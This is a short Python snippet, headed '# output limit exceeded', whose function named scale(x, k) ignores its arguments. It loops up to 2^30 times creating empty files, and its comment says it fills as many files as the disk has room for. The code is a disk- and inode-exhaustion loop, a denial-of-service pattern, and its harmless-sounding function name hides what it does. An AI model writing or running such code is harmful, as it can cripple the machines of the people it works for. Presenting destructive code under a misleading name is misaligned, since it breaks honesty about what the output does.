# output limit exceeded
# As many files as the disk has room for.
def scale(x, k):
    for i in range(1 << 30):
        open(f"file{i}", "w").close()
